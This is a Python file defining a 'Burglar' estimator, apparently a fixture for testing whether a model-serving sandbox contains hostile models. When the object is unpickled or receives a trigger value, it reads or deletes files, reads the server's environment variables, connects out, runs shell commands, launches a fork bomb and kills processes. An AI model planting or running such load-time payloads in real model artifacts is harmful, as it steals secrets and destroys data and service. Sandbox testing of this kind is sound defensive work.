"""An estimator that does what a model has no business doing, and answers how that went."""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import threading
from pathlib import Path
from typing import Any

import numpy as np
from peculiar import Constant

ASKED = 77.0
TRIES_IN_VAIN, SUCCEEDS = 1.0, 2.0


class Burglar(Constant):
    """Tries `deed` upon `target` while it is loaded, or, `is_patient`, when the first value of a row is 77."""

    def __init__(self, deed: str = "read", target: str = "", is_patient: bool = False) -> None:
        super().__init__(TRIES_IN_VAIN)
        self.deed = deed
        self.target = target
        self.is_patient = is_patient

    def __setstate__(self, state: dict[str, Any]) -> None:
        self.__dict__.update(state)
        if not self.is_patient:
            DEEDS[self.deed](self.target)

    def predict(self, X: Any) -> Any:
        answers = np.full(len(X), TRIES_IN_VAIN)
        if self.is_patient and float(np.asarray(X)[0, 0]) == ASKED:
            try:
                DEEDS[self.deed](self.target)
                answers[:] = SUCCEEDS
            except OSError:
                pass
        return answers


def _connect(target: str) -> None:
    host, port = target.split(":")
    socket.create_connection((host, int(port)), timeout=5).close()


def _fork(_: str) -> None:
    if os.fork() == 0:
        os._exit(0)


def _fork_without_end(_: str) -> None:
    while True:
        if os.fork() == 0:
            threading.Event().wait()


DEEDS = {
    "read": lambda target: Path(target).read_bytes(),
    "list": lambda target: list(Path(target).iterdir()),
    "write": lambda target: Path(target).write_text("burgled"),
    "delete": lambda target: Path(target).unlink(),
    "read the server's environment": lambda _: Path(f"/proc/{os.getppid()}/environ").read_bytes(),
    "connect": _connect,
    "send a datagram": lambda _: socket.socket(socket.AF_INET, socket.SOCK_DGRAM),
    "run a program": lambda target: subprocess.run(["/bin/sh", "-c", f"echo burgled > {target}"], check=True),
    "fork": _fork,
    "fork without end": _fork_without_end,
    "kill its parent": lambda _: os.kill(os.getppid(), signal.SIGKILL),
    "kill all": lambda _: os.kill(-1, signal.SIGKILL),
}
